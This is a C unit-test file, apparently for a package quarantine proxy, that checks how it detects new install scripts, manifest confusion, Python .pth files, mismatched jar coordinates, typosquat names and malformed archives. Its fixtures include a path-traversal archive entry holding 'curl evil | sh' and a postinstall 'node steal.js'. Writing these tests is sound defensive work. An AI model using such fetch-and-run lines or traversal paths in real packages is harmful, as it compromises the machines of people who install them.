/* unit tests: analysis as the decision sees it — findings mapped to
 * hold/warn/ignore inside policy_decide (and what admits a version anyway),
 * npm install-script history from a packument, the per-ecosystem reading of
 * artifacts (npm manifest confusion and binding.gyp, wheel .pth and
 * METADATA, jar coordinates, POM repositories, broken archives), the
 * findings store and the typosquat name check through the running set. */
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "analysis/analysis.h"
#include "analysis/artifact.h"
#include "analysis/contents.h"
#include "analysis/findings.h"
#include "ecosystems/eco_ids.h"
#include "store/store.h"
#include "common/timeutil.h"
#include "ecosystems/npm/npm_filter.h"
#include "ecosystems/npm/npm_packument.h"
#include "core/config.h"
#include "policy/judge.h"
#include "policy/policy.h"
#include "tests/unit/archive_writer.h"
#include "tests/unit/test.h"

#define DAY (86400LL * 1000)

static config_t g_cfg;

static void load(const char *yaml)
{
    char err[512];
    config_free(&g_cfg);
    int rc = config_load_string(&g_cfg, "t.yaml", yaml, strlen(yaml), err, sizeof(err));
    if (rc != 0)
        fprintf(stderr, "config: %s\n", err);
    CHECK(rc == 0);
}

static verdict_t decide(eco_id_t eco, const char *pkg, const char *ver, const findings_t *f)
{
    verdict_t v;
    int64_t now = time_now_ms();
    version_facts_t facts = {.published_at = now - 100 * DAY, .first_seen = TIME_NONE};
    findings_t found;
    findings_clear(&found);
    if (f)
        found = *f;
    policy_gather(eco, pkg, ver, now, &facts, &found); /* the facts the server gathers besides these */
    policy_decide(&g_cfg, eco, pkg, ver, &facts, now, &v);
    return v;
}

TEST(findings_in_policy)
{
    load("quarantine: { min_age: 7d }\n");
    findings_t f;
    findings_clear(&f);
    CHECK(decide(ECO_NPM, "pkg", "1.0.0", &f).allow);

    /* defaults: a new install script holds, a long-standing one warns */
    findings_add(&f, FINDING_INSTALL_SCRIPT, "pkg@1.0.0 runs install scripts");
    verdict_t v = decide(ECO_NPM, "pkg", "1.0.0", &f);
    CHECK(v.allow);
    CHECK(v.warnings & (1u << FINDING_INSTALL_SCRIPT));
    findings_add(&f, FINDING_NEW_INSTALL_SCRIPT, "pkg@1.0.0 runs install scripts and no earlier version did");
    v = decide(ECO_NPM, "pkg", "1.0.0", &f);
    CHECK(!v.allow);
    CHECK_STR_EQ(reason_name(v.reason), "new_install_script");
    CHECK_STR_EQ(v.rule, "analysis new_install_script: hold");
    CHECK(strstr(v.detail, "no earlier version") != NULL);
    CHECK(v.eligible_at == TIME_NONE); /* age never admits it */

    /* the most severe finding is the one reported */
    findings_add(&f, FINDING_MANIFEST_MISMATCH, "scripts.postinstall differs");
    CHECK_STR_EQ(reason_name(decide(ECO_NPM, "pkg", "1.0.0", &f).reason), "manifest_mismatch");
    /* reasons of the finer kinds are DESIGN's */
    findings_t p;
    findings_clear(&p);
    findings_add(&p, FINDING_PTH_FILE, "evil.pth");
    CHECK_STR_EQ(reason_name(decide(ECO_PYPI, "x", "1.0", &p).reason), "install_script");

    /* the configuration decides */
    load("quarantine: { min_age: 7d }\nanalysis: { new_install_script: warn, manifest_mismatch: ignore }\n");
    v = decide(ECO_NPM, "pkg", "1.0.0", &f);
    CHECK(v.allow);
    CHECK(v.warnings & (1u << FINDING_NEW_INSTALL_SCRIPT));
    CHECK(!(v.warnings & (1u << FINDING_MANIFEST_MISMATCH)));

    /* an exact allow admits it; a deny still wins */
    load("quarantine:\n  min_age: 7d\n  rules:\n"
         "    - { match: \"npm:pkg@1.0.0\", allow: true }\n"
         "    - { match: \"npm:bad\", deny: true }\n");
    CHECK(decide(ECO_NPM, "pkg", "1.0.0", &f).allow);
    CHECK(!decide(ECO_NPM, "pkg", "1.0.1", &f).allow);
    CHECK_STR_EQ(reason_name(decide(ECO_NPM, "bad", "1.0.0", NULL).reason), "blocked");

    /* a configuration that names an unknown kind or action is refused */
    char err[300];
    config_t bad;
    const char *y1 = "analysis: { typosquat: maybe }\n";
    CHECK(config_load_string(&bad, "b.yaml", y1, strlen(y1), err, sizeof(err)) != 0);
    CHECK(strstr(err, "b.yaml:1: 'typosquat' must be hold, warn or ignore") != NULL);
    config_free(&bad);
    const char *y2 = "analysis:\n  pth_allow: [x.txt]\n";
    CHECK(config_load_string(&bad, "b.yaml", y2, strlen(y2), err, sizeof(err)) != 0);
    CHECK(strstr(err, "b.yaml:2:") != NULL);
    config_free(&bad);
    const char *y3 = "analysis:\n  limits: { max_entries: 0 }\n";
    CHECK(config_load_string(&bad, "b.yaml", y3, strlen(y3), err, sizeof(err)) != 0);
    config_free(&bad);
}

TEST(typosquat_through_policy)
{
    load("quarantine: { min_age: 7d }\n");
    char err[300];
    CHECK_INT_EQ(analysis_configure(&g_cfg, err, sizeof(err)), 0);
    verdict_t v = decide(ECO_NPM, "lodahs", "1.0.0", NULL);
    CHECK(!v.allow);
    CHECK_STR_EQ(reason_name(v.reason), "typosquat");
    CHECK(strstr(v.detail, "looks like lodash") != NULL);
    CHECK(decide(ECO_NPM, "lodash", "4.17.21", NULL).allow);
    /* asked again: the cached answer */
    CHECK_STR_EQ(reason_name(decide(ECO_NPM, "lodahs", "1.0.1", NULL).reason), "typosquat");
    /* a popular file adds names (and so protects them) */
    FILE *pf = fopen("/tmp/cordon-test-popular.txt", "w");
    fputs("# ours\nnpm:acme-widgets\n", pf);
    fclose(pf);
    load("quarantine: { min_age: 7d }\nanalysis: { popular_file: /tmp/cordon-test-popular.txt }\n");
    CHECK_INT_EQ(analysis_configure(&g_cfg, err, sizeof(err)), 0);
    CHECK_STR_EQ(reason_name(decide(ECO_NPM, "acme-widgetz", "1.0.0", NULL).reason), "typosquat");
    CHECK(decide(ECO_NPM, "acme-widgets", "1.0.0", NULL).allow);
    pf = fopen("/tmp/cordon-test-popular.txt", "w");
    fputs("nope:x\n", pf);
    fclose(pf);
    CHECK_INT_EQ(analysis_configure(&g_cfg, err, sizeof(err)), -1);
    CHECK(strstr(err, "cordon-test-popular.txt:1:") != NULL);
    remove("/tmp/cordon-test-popular.txt");
    analysis_shutdown();
    CHECK(decide(ECO_NPM, "lodahs", "1.0.0", NULL).allow); /* no set: no name findings */
}

TEST(npm_install_script_history)
{
    const char *doc = "{\"name\":\"s\",\"versions\":{"
                      "\"1.0.0\":{\"name\":\"s\",\"version\":\"1.0.0\"},"
                      "\"1.2.0\":{\"name\":\"s\",\"version\":\"1.2.0\",\"scripts\":{\"postinstall\":\"node x\"}},"
                      "\"1.1.0\":{\"name\":\"s\",\"version\":\"1.1.0\"},"
                      "\"1.3.0\":{\"name\":\"s\",\"version\":\"1.3.0\",\"scripts\":{\"install\":\"node y\"}}},"
                      "\"time\":{\"1.0.0\":\"2025-01-01T00:00:00Z\",\"1.1.0\":\"2025-02-01T00:00:00Z\","
                      "\"1.2.0\":\"2025-03-01T00:00:00Z\",\"1.3.0\":\"2025-04-01T00:00:00Z\"}}";
    npm_packument_t p;
    char err[200];
    CHECK_INT_EQ(npm_packument_parse(&p, doc, strlen(doc), err, sizeof(err)), 0);
    unsigned char bits[4];
    npm_install_script_history(&p, bits);
    /* document order: 1.0.0, 1.2.0, 1.1.0, 1.3.0 */
    CHECK_INT_EQ(bits[0], 0);
    CHECK_INT_EQ(bits[1], NPM_SCRIPTS_HAS | NPM_SCRIPTS_NEW);
    CHECK_INT_EQ(bits[2], 0);
    CHECK_INT_EQ(bits[3], NPM_SCRIPTS_HAS); /* 1.2.0 had scripts before it */
    findings_t f;
    findings_clear(&f);
    npm_script_findings("s", "1.2.0", bits[1], &f);
    CHECK(f.mask == (1u << FINDING_NEW_INSTALL_SCRIPT));
    npm_packument_free(&p);

    /* the very first version with scripts is not "new": nothing came before */
    const char *one = "{\"name\":\"t\",\"versions\":{\"1.0.0\":{\"scripts\":{\"preinstall\":\"x\"}}},"
                      "\"time\":{\"1.0.0\":\"2025-01-01T00:00:00Z\"}}";
    CHECK_INT_EQ(npm_packument_parse(&p, one, strlen(one), err, sizeof(err)), 0);
    npm_install_script_history(&p, bits);
    CHECK_INT_EQ(bits[0], NPM_SCRIPTS_HAS);
    npm_packument_free(&p);
}

static void analyse(eco_id_t eco, const char *pkg, const char *ver, const char *file, const char *expected,
                    const buf_t *bytes, findings_t *f)
{
    artifact_job_t *j = artifact_job_new(eco, pkg, ver, file, expected, expected ? strlen(expected) : 0);
    findings_clear(f);
    artifact_analyse_memory(j, bytes->data ? bytes->data : "", bytes->len, &g_cfg.analysis, f, NULL);
    artifact_job_free(j);
}

TEST(npm_tarballs)
{
    load("quarantine: { min_age: 7d }\n");
    const char *reg = "{\"name\":\"m\",\"version\":\"1.0.0\",\"dependencies\":{\"a\":\"^1.0.0\"},"
                      "\"dist\":{\"tarball\":\"x\"}}";
    buf_t b;
    findings_t f;

    buf_init(&b);
    struct archive *a = w_new(TGZ, &b, NULL);
    w_file(a, "package/package.json", "{\"version\":\"1.0.0\",\"name\":\"m\",\"dependencies\":{\"a\":\"^1.0.0\"}}");
    w_file(a, "package/index.js", "module.exports = 1;\n");
    w_close(a);
    analyse(ECO_NPM, "m", "1.0.0", "m-1.0.0.tgz", reg, &b, &f);
    CHECK_INT_EQ((long)f.mask, 0);
    buf_free(&b);

    /* manifest confusion: the tarball installs a script the registry does not show */
    buf_init(&b);
    a = w_new(TGZ, &b, NULL);
    w_file(a, "package/package.json", "{\"name\":\"m\",\"version\":\"1.0.0\",\"dependencies\":{\"a\":\"^1.0.0\"},"
                                      "\"scripts\":{\"postinstall\":\"node steal.js\"}}");
    w_close(a);
    analyse(ECO_NPM, "m", "1.0.0", "m-1.0.0.tgz", reg, &b, &f);
    CHECK(f.mask == (1u << FINDING_MANIFEST_MISMATCH));
    CHECK(strstr(f.detail[FINDING_MANIFEST_MISMATCH], "postinstall") != NULL);
    CHECK_STR_EQ(reason_name(decide(ECO_NPM, "m", "1.0.0", &f).reason), "manifest_mismatch");
    buf_free(&b);

    /* a root binding.gyp is an install script npm runs */
    buf_init(&b);
    a = w_new(TGZ, &b, NULL);
    w_file(a, "package/package.json", "{\"name\":\"m\",\"version\":\"1.0.0\",\"dependencies\":{\"a\":\"^1.0.0\"}}");
    w_file(a, "package/binding.gyp", "{}");
    w_close(a);
    analyse(ECO_NPM, "m", "1.0.0", "m-1.0.0.tgz", reg, &b, &f);
    CHECK(f.mask == (1u << FINDING_MANIFEST_MISMATCH));
    CHECK(strstr(f.detail[FINDING_MANIFEST_MISMATCH], "binding.gyp") != NULL);
    buf_free(&b);

    /* no package.json; a truncated gzip; not an archive at all */
    buf_init(&b);
    a = w_new(TGZ, &b, NULL);
    w_file(a, "package/index.js", "1");
    w_close(a);
    analyse(ECO_NPM, "m", "1.0.0", "m-1.0.0.tgz", reg, &b, &f);
    CHECK(f.mask == (1u << FINDING_MALFORMED_ARCHIVE));
    b.len /= 2;
    analyse(ECO_NPM, "m", "1.0.0", "m-1.0.0.tgz", reg, &b, &f);
    CHECK(f.mask == (1u << FINDING_MALFORMED_ARCHIVE));
    buf_reset(&b);
    buf_puts(&b, "<html>not found</html>");
    analyse(ECO_NPM, "m", "1.0.0", "m-1.0.0.tgz", reg, &b, &f);
    CHECK(f.mask == (1u << FINDING_MALFORMED_ARCHIVE));
    CHECK_STR_EQ(reason_name(decide(ECO_NPM, "m", "1.0.0", &f).reason), "malformed_archive");
    buf_free(&b);

    /* a path out of the archive */
    buf_init(&b);
    a = w_new(TGZ, &b, NULL);
    w_file(a, "package/package.json", "{\"name\":\"m\",\"version\":\"1.0.0\",\"dependencies\":{\"a\":\"^1.0.0\"}}");
    w_file(a, "package/../../../home/x/.bashrc", "curl evil | sh");
    w_close(a);
    analyse(ECO_NPM, "m", "1.0.0", "m-1.0.0.tgz", reg, &b, &f);
    CHECK(f.mask == (1u << FINDING_MALFORMED_ARCHIVE));
    buf_free(&b);
}

static void wheel(buf_t *b, const char *metadata, const char *extra)
{
    buf_init(b);
    struct archive *a = w_new(ZIP, b, NULL);
    w_file(a, "demo/__init__.py", "");
    w_file(a, "demo-1.0.dist-info/METADATA", metadata);
    w_file(a, "demo-1.0.dist-info/RECORD", "");
    if (extra)
        w_file(a, extra, "import os; os.system('x')\n");
    w_close(a);
}

TEST(wheels_and_jars)
{
    load("quarantine: { min_age: 7d }\n");
    buf_t b;
    findings_t f;
    const char *md = "Metadata-Version: 2.1\nName: Demo\nVersion: 1.0\n\nlong description Name: other\n";
    wheel(&b, md, NULL);
    analyse(ECO_PYPI, "demo", "1.0", "demo-1.0-py3-none-any.whl", NULL, &b, &f);
    CHECK_INT_EQ((long)f.mask, 0);
    buf_free(&b);
    wheel(&b, md, "evil.pth");
    analyse(ECO_PYPI, "demo", "1.0", "demo-1.0-py3-none-any.whl", NULL, &b, &f);
    CHECK(f.mask == (1u << FINDING_PTH_FILE));
    CHECK(strstr(f.detail[FINDING_PTH_FILE], "evil.pth") != NULL);
    buf_free(&b);
    wheel(&b, md, "distutils-precedence.pth"); /* on the allow list */
    analyse(ECO_PYPI, "demo", "1.0", "demo-1.0-py3-none-any.whl", NULL, &b, &f);
    CHECK_INT_EQ((long)f.mask, 0);
    buf_free(&b);
    wheel(&b, md, "demo-1.0.data/purelib/sneaky.pth");
    analyse(ECO_PYPI, "demo", "1.0", "demo-1.0-py3-none-any.whl", NULL, &b, &f);
    CHECK(f.mask == (1u << FINDING_PTH_FILE));
    buf_free(&b);
    wheel(&b, "Name: requests\nVersion: 1.0\n", NULL);
    analyse(ECO_PYPI, "demo", "1.0", "demo-1.0-py3-none-any.whl", NULL, &b, &f);
    CHECK(f.mask == (1u << FINDING_MANIFEST_MISMATCH));
    buf_free(&b);
    wheel(&b, "Name: demo\nVersion: 2.0\n", NULL);
    analyse(ECO_PYPI, "demo", "1.0", "demo-1.0-py3-none-any.whl", NULL, &b, &f);
    CHECK(f.mask == (1u << FINDING_MANIFEST_MISMATCH));
    buf_free(&b);

    /* jars: pom.properties must name the coordinates served */
    buf_init(&b);
    struct archive *a = w_new(ZIP, &b, NULL);
    w_file(a, "META-INF/MANIFEST.MF", "Manifest-Version: 1.0\n");
    w_file(a, "META-INF/maven/org.example/lib/pom.properties", "groupId=org.example\nartifactId=lib\nversion=1.0\n");
    w_close(a);
    analyse(ECO_MAVEN, "org.example:lib", "1.0", "lib-1.0.jar", NULL, &b, &f);
    CHECK_INT_EQ((long)f.mask, 0);
    /* another artifact's descriptor only: a bundled library or a substitute,
     * which the bytes cannot tell apart — a warning (Debian's guice carries
     * only cglib's descriptor, xalan only bcel's) */
    analyse(ECO_MAVEN, "com.other:thing", "1.0", "thing-1.0.jar", NULL, &b, &f);
    CHECK(f.mask == (1u << FINDING_MANIFEST_MISMATCH));
    CHECK(f.capped == (1u << FINDING_MANIFEST_MISMATCH));
    CHECK(strstr(f.detail[FINDING_MANIFEST_MISMATCH], "org.example:lib") != NULL);
    verdict_t jv = decide(ECO_MAVEN, "com.other:thing", "1.0", &f);
    CHECK(jv.allow);
    CHECK(jv.warnings & (1u << FINDING_MANIFEST_MISMATCH));
    /* the same artifactId under another groupId: the jar claims to be another
     * build of this artifact — held */
    analyse(ECO_MAVEN, "com.evil:lib", "1.0", "lib-1.0.jar", NULL, &b, &f);
    CHECK(f.mask == (1u << FINDING_MANIFEST_MISMATCH));
    CHECK(f.capped == 0);
    CHECK(strstr(f.detail[FINDING_MANIFEST_MISMATCH], "says it is org.example:lib") != NULL);
    CHECK(!decide(ECO_MAVEN, "com.evil:lib", "1.0", &f).allow);
    /* ... unless the served POM relocates there (Debian's org.sonatype.plexus) */
    const char *reloc = "<project><groupId>com.evil</groupId><artifactId>lib</artifactId><distributionManagement>"
                        "<relocation>\n  <groupId> org.example </groupId>\n</relocation></distributionManagement>"
                        "</project>";
    analyse(ECO_MAVEN, "com.evil:lib", "1.0", "lib-1.0.jar", reloc, &b, &f);
    CHECK_INT_EQ((long)f.mask, 0);
    /* a declared dependency bundled in the jar is explained by the POM */
    const char *deps = "<project><dependencies><dependency><groupId>org.example</groupId>"
                       "<artifactId>lib</artifactId><version>1.0</version></dependency></dependencies></project>";
    analyse(ECO_MAVEN, "com.other:thing", "1.0", "thing-1.0.jar", deps, &b, &f);
    CHECK_INT_EQ((long)f.mask, 0);
    buf_free(&b);
    /* a held finding is never capped by a capped one of the same kind */
    findings_t held, capped;
    findings_clear(&held);
    findings_clear(&capped);
    findings_add(&capped, FINDING_MANIFEST_MISMATCH, "bundled");
    capped.capped = 1u << FINDING_MANIFEST_MISMATCH;
    findings_add(&held, FINDING_MANIFEST_MISMATCH, "impostor");
    findings_merge(&capped, &held);
    CHECK(capped.capped == 0);
    CHECK_STR_EQ(capped.detail[FINDING_MANIFEST_MISMATCH], "impostor");

    /* POMs: declared repositories, not commented-out ones */
    buf_init(&b);
    buf_puts(&b, "<project><!-- <repositories> --><groupId>g</groupId></project>");
    analyse(ECO_MAVEN, "g:a", "1", "a-1.pom", NULL, &b, &f);
    CHECK_INT_EQ((long)f.mask, 0);
    buf_reset(&b);
    buf_puts(&b, "<project><repositories><repository><url>http://evil</url></repository></repositories></project>");
    analyse(ECO_MAVEN, "g:a", "1", "a-1.pom", NULL, &b, &f);
    CHECK(f.mask == (1u << FINDING_POM_REPOSITORIES));
    CHECK(decide(ECO_MAVEN, "g:a", "1", &f).allow); /* warn by default */
    buf_free(&b);

    CHECK(artifact_is_analysed(ECO_NPM, "x-1.0.0.tgz"));
    CHECK(artifact_is_analysed(ECO_PYPI, "x-1.0.tar.gz"));
    CHECK(!artifact_is_analysed(ECO_PYPI, "x-1.0-py3-none-any.whl.metadata"));
    CHECK(!artifact_is_analysed(ECO_MAVEN, "x-1.0.jar.sha1"));
}

typedef struct two {
    const findings_t *a, *b;
} two_t;

static int put_two(MDB_txn *t, void *arg)
{
    const two_t *two = arg;
    int rc = findings_put(t, "pypi", "demo", "1.0", "aaaa", two->a);
    if (rc == 0)
        rc = findings_put(t, "pypi", "demo", "1.0", "bbbb", two->b);
    if (rc == 0) /* another version whose name starts like this one */
        rc = findings_put(t, "pypi", "demo", "1.0.1x", "cccc", two->b);
    return rc;
}

TEST(findings_store)
{
    char dir[] = "/tmp/cordon-test-analysis-XXXXXX", err[300];
    CHECK(mkdtemp(dir) != NULL);
    CHECK_INT_EQ(store_open(dir, 1 << 20, 0, err, sizeof(err)), 0);
    findings_t a, b, got;
    findings_clear(&a);
    findings_clear(&b);
    findings_add(&a, FINDING_PTH_FILE, "x.pth");
    findings_add(&b, FINDING_MANIFEST_MISMATCH, "name");
    b.capped = 1u << FINDING_MANIFEST_MISMATCH; /* kept with the record */
    two_t two = {&a, &b};
    CHECK_INT_EQ(store_write(put_two, &two, err, sizeof(err)), STORE_OK);
    MDB_txn *txn;
    CHECK_INT_EQ(store_read_begin(&txn), 0);
    findings_clear(&got);
    /* every analysed artifact of the version counts */
    CHECK_INT_EQ(findings_get_version(txn, "pypi", "demo", "1.0", &got), 1);
    CHECK(got.mask == ((1u << FINDING_PTH_FILE) | (1u << FINDING_MANIFEST_MISMATCH)));
    CHECK_STR_EQ(got.detail[FINDING_PTH_FILE], "x.pth");
    CHECK(got.capped == (1u << FINDING_MANIFEST_MISMATCH));
    findings_clear(&got);
    CHECK_INT_EQ(findings_get_version(txn, "pypi", "demo", "1.0.1", &got), 0);
    CHECK_INT_EQ(findings_get_version(txn, "pypi", "dem", "1.0", &got), 0);
    CHECK_INT_EQ((long)got.mask, 0);
    store_read_end(txn);
    store_close();
    char cmd[100];
    snprintf(cmd, sizeof(cmd), "rm -rf %s", dir);
    CHECK(system(cmd) == 0);
}

/* the fact (kind, name)'s value, "" when absent */
static const char *fact(const contents_t *c, contents_fact_kind_t k, const char *name)
{
    const contents_fact_t *f = contents_fact(c, k, name);
    return f ? f->value : "";
}

static int put_listing(MDB_txn *t, void *arg)
{
    const contents_t *c = arg;
    int rc = contents_put(t, "pypi", "demo", "1.0", "aaaa", c);
    if (rc == 0) /* the same version's sdist, recorded after its wheel */
        rc = contents_put(t, "pypi", "demo", "1.0", "0000", &(contents_t){.filename = "demo-1.0.tar.gz"});
    return rc;
}

/* What an artifact holds, as the version view's diff reads it: every
 * entry with its size and hash, and what each ecosystem's manifest
 * declares; the record round-trips through DB_CONTENTS, and the artifact
 * like another version's is the one found. */
TEST(listings_of_artifacts)
{
    load("quarantine: { min_age: 7d }\n");
    buf_t b;
    findings_t f;
    contents_t c;

    /* npm: dependencies of every kind, install scripts, bin and main, links */
    buf_init(&b);
    struct archive *a = w_new(TGZ, &b, NULL);
    w_file(a, "package/package.json",
           "{\"name\":\"@s/m\",\"version\":\"1.0.0\",\"main\":\"lib/index.js\",\"bin\":\"cli.js\","
           "\"dependencies\":{\"a\":\"^1.0.0\",\"b\":\"2\"},\"optionalDependencies\":{\"b\":\"2\"},"
           "\"peerDependencies\":{\"react\":\">=18\"},\"scripts\":{\"postinstall\":\"node x.js\",\"test\":\"t\"},"
           "\"repository\":{\"type\":\"git\",\"url\":\"git+https://example.test/s/m.git\"}}");
    w_file(a, "package/lib/index.js", "module.exports = 1;\n");
    w_close(a);
    artifact_job_t *j = artifact_job_new(ECO_NPM, "@s/m", "1.0.0", "m-1.0.0.tgz", NULL, 0);
    findings_clear(&f);
    contents_init(&c);
    artifact_analyse_memory(j, b.data, b.len, &g_cfg.analysis, &f, &c);
    artifact_job_free(j);
    buf_free(&b);
    CHECK_STR_EQ(c.filename, "m-1.0.0.tgz");
    CHECK_INT_EQ(c.nfiles, 2);
    CHECK_INT_EQ(c.entries, 2);
    CHECK_STR_EQ(c.files[1].path, "package/lib/index.js");
    CHECK_INT_EQ(c.files[1].size, 20);
    CHECK_STR_EQ(fact(&c, CONTENTS_DEPENDENCY, "a"), "^1.0.0");
    CHECK_STR_EQ(fact(&c, CONTENTS_DEPENDENCY, "b"), "2 (optional)");
    CHECK_STR_EQ(fact(&c, CONTENTS_DEPENDENCY, "react"), ">=18 (peer)");
    CHECK_STR_EQ(fact(&c, CONTENTS_SCRIPT, "postinstall"), "node x.js");
    CHECK(contents_fact(&c, CONTENTS_SCRIPT, "test") == NULL); /* runs for the author, not at install */
    CHECK_STR_EQ(fact(&c, CONTENTS_ENTRY_POINT, "bin m"), "cli.js");
    CHECK_STR_EQ(fact(&c, CONTENTS_ENTRY_POINT, "main"), "lib/index.js");
    CHECK_STR_EQ(fact(&c, CONTENTS_LINK, "repository"), "git+https://example.test/s/m.git");
    contents_free(&c);

    /* a wheel: Requires-Dist (with a marker), console scripts, .pth files, Project-URL */
    buf_init(&b);
    a = w_new(ZIP, &b, NULL);
    w_file(a, "demo/__init__.py", "");
    w_file(a, "demo-1.0.dist-info/METADATA",
           "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\nRequires-Dist: Requests (>=2.0)\n"
           "Requires-Dist: colorama; sys_platform == \"win32\"\nProject-URL: Source, https://example.test/demo\n"
           "\nRequires-Dist: not-a-header\n");
    w_file(a, "demo-1.0.dist-info/entry_points.txt", "[console_scripts]\ndemo = demo.cli:main\n[other]\nx = y\n");
    w_file(a, "evil.pth", "import os\n");
    w_close(a);
    j = artifact_job_new(ECO_PYPI, "demo", "1.0", "demo-1.0-py3-none-any.whl", NULL, 0);
    findings_clear(&f);
    contents_init(&c);
    artifact_analyse_memory(j, b.data, b.len, &g_cfg.analysis, &f, &c);
    artifact_job_free(j);
    buf_free(&b);
    CHECK_INT_EQ(c.nfiles, 4);
    CHECK_STR_EQ(fact(&c, CONTENTS_DEPENDENCY, "requests"), "(>=2.0)");
    CHECK_STR_EQ(fact(&c, CONTENTS_DEPENDENCY, "colorama; sys_platform == \"win32\""), "any");
    CHECK(contents_fact(&c, CONTENTS_DEPENDENCY, "not-a-header") == NULL); /* the body is no header */
    CHECK_STR_EQ(fact(&c, CONTENTS_ENTRY_POINT, "console_scripts demo"), "demo.cli:main");
    CHECK(contents_fact(&c, CONTENTS_ENTRY_POINT, "other x") == NULL);
    CHECK(contents_fact(&c, CONTENTS_SCRIPT, "evil.pth") != NULL);
    CHECK_STR_EQ(fact(&c, CONTENTS_LINK, "Source"), "https://example.test/demo");
    contents_sort(&c); /* as a record is read back */

    /* the record round-trips; the wheel is found for another version's wheel, the sdist for its sdist */
    char dir[] = "/tmp/cordon-test-listing-XXXXXX", err[300];
    CHECK(mkdtemp(dir) != NULL);
    CHECK_INT_EQ(store_open(dir, 1 << 20, 0, err, sizeof(err)), 0);
    CHECK_INT_EQ(store_write(put_listing, &c, err, sizeof(err)), STORE_OK);
    MDB_txn *txn;
    CHECK_INT_EQ(store_read_begin(&txn), 0);
    contents_t got;
    CHECK_INT_EQ(contents_get_version(txn, "pypi", "demo", "1.0", "demo-0.9-py3-none-any.whl", "0.9", &got), 0);
    CHECK_STR_EQ(got.filename, "demo-1.0-py3-none-any.whl");
    CHECK_INT_EQ(got.nfiles, c.nfiles);
    CHECK_INT_EQ(got.nfacts, c.nfacts);
    for (size_t i = 0; i < got.nfiles && i < c.nfiles; i++) {
        CHECK_STR_EQ(got.files[i].path, c.files[i].path);
        CHECK(memcmp(got.files[i].sha, c.files[i].sha, 16) == 0);
    }
    CHECK_STR_EQ(fact(&got, CONTENTS_ENTRY_POINT, "console_scripts demo"), "demo.cli:main");
    contents_free(&got);
    CHECK_INT_EQ(contents_get_version(txn, "pypi", "demo", "1.0", "demo-0.9.tar.gz", "0.9", &got), 0);
    CHECK_STR_EQ(got.filename, "demo-1.0.tar.gz");
    contents_free(&got);
    CHECK_INT_EQ(contents_get_version(txn, "pypi", "demo", "1.0", NULL, NULL, &got), 0);
    CHECK(got.filename != NULL);
    contents_free(&got);
    CHECK_INT_EQ(contents_get_version(txn, "pypi", "demo", "1.1", NULL, NULL, &got), MDB_NOTFOUND);
    store_read_end(txn);
    store_close();
    contents_free(&c);
    char cmd[100];
    snprintf(cmd, sizeof(cmd), "rm -rf %s", dir);
    CHECK(system(cmd) == 0);
}

/* Every archive format cordon serves is analysed: read with the walk and
 * its limits (a hostile entry, a truncated file: malformed_archive), or
 * refused when cordon does not read the format. */
typedef struct served_format {
    eco_id_t eco;
    const char *file; /* the name it is served under */
    int kind;         /* archive_writer.h */
    const char *top;  /* the directory its entries sit in ("" for none) */
} served_format_t;

static void write_format(buf_t *b, const served_format_t *sf, const char *hostile)
{
    char path[200];
    buf_init(b);
    struct archive *a = w_new(sf->kind, b, NULL);
    if (sf->kind == RAW_GZ || sf->kind == RAW_XZ) {
        w_file(a, "data", hostile ? hostile : "{\"a compressed\": \"file\"}\n");
        w_close(a);
        return;
    }
    snprintf(path, sizeof(path), "%sREADME.txt", sf->top);
    w_file(a, path, "a file long enough to be compressed a little: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\n");
    snprintf(path, sizeof(path), "%ssrc/main.py", sf->top);
    w_file(a, path, "print('hello from the archive, hello from the archive, hello')\n");
    if (hostile) {
        snprintf(path, sizeof(path), "%s%s", sf->top, hostile);
        w_file(a, path, "curl evil | sh\n");
    }
    w_close(a);
}

TEST(every_served_format)
{
    load("quarantine: { min_age: 7d }\n");
    static const served_format_t formats[] = {
        {ECO_PYPI, "demo-1.0.tar.bz2", TAR_BZ2, "demo-1.0/"},
        {ECO_PYPI, "demo-1.0.tar.xz", TAR_XZ, "demo-1.0/"},
        {ECO_PYPI, "demo-1.0.tar.Z", TAR_Z, "demo-1.0/"},
        {ECO_PYPI, "demo-1.0.tar", TAR, "demo-1.0/"},
        {ECO_PYPI, "demo-1.0.tgz", TGZ, "demo-1.0/"},
        {ECO_PYPI, "demo-1.0.zip", ZIP, "demo-1.0/"},
        {ECO_PYPI, "demo-1.0-py3.9.egg", ZIP, ""},
        {ECO_MAVEN, "lib-1.0.zip", ZIP, "lib-1.0/"},
        {ECO_MAVEN, "lib-1.0.ear", ZIP, ""},
        {ECO_MAVEN, "lib-1.0.war", ZIP, ""},
        {ECO_MAVEN, "lib-1.0.aar", ZIP, ""},
        {ECO_MAVEN, "lib-1.0.rar", ZIP, ""},
        {ECO_MAVEN, "lib-1.0.hpi", ZIP, ""},
        {ECO_MAVEN, "lib-1.0-bin.tar.gz", TGZ, "lib-1.0/"},
        {ECO_MAVEN, "lib-1.0-bin.tgz", TGZ, "lib-1.0/"},
        {ECO_MAVEN, "lib-1.0-bin.tar.bz2", TAR_BZ2, "lib-1.0/"},
        {ECO_MAVEN, "lib-1.0-bin.tar.xz", TAR_XZ, "lib-1.0/"},
        {ECO_MAVEN, "lib-1.0-bin.tar.zst", TAR_ZST, "lib-1.0/"},
        {ECO_MAVEN, "lib-1.0-bin.tar", TAR, "lib-1.0/"},
        {ECO_MAVEN, "lib-1.0-data.json.gz", RAW_GZ, ""},
        {ECO_MAVEN, "lib-1.0-data.json.xz", RAW_XZ, ""},
    };
    for (size_t i = 0; i < sizeof(formats) / sizeof(formats[0]); i++) {
        const served_format_t *sf = &formats[i];
        const char *pkg = sf->eco == ECO_PYPI ? "demo" : "org.example:lib";
        test_current = sf->file;
        buf_t b;
        findings_t f;
        CHECK(artifact_is_analysed(sf->eco, sf->file));
        write_format(&b, sf, NULL);
        analyse(sf->eco, pkg, "1.0", sf->file, NULL, &b, &f);
        if (f.mask)
            fprintf(stderr, "%s: %s\n", sf->file, f.detail[FINDING_MALFORMED_ARCHIVE]);
        CHECK_INT_EQ((long)f.mask, 0);
        /* cut: refused (in the middle; and a zip just before its end, in
         * the central directory its clients read) */
        size_t full = b.len, cuts[2] = {full / 2 + 1, full - 10};
        for (int c = 0; c < (sf->kind == ZIP ? 2 : 1); c++) {
            b.len = cuts[c];
            analyse(sf->eco, pkg, "1.0", sf->file, NULL, &b, &f);
            if (f.mask != (1u << FINDING_MALFORMED_ARCHIVE))
                fprintf(stderr, "%s cut to %zu of %zu bytes: mask %u\n", sf->file, b.len, full, f.mask);
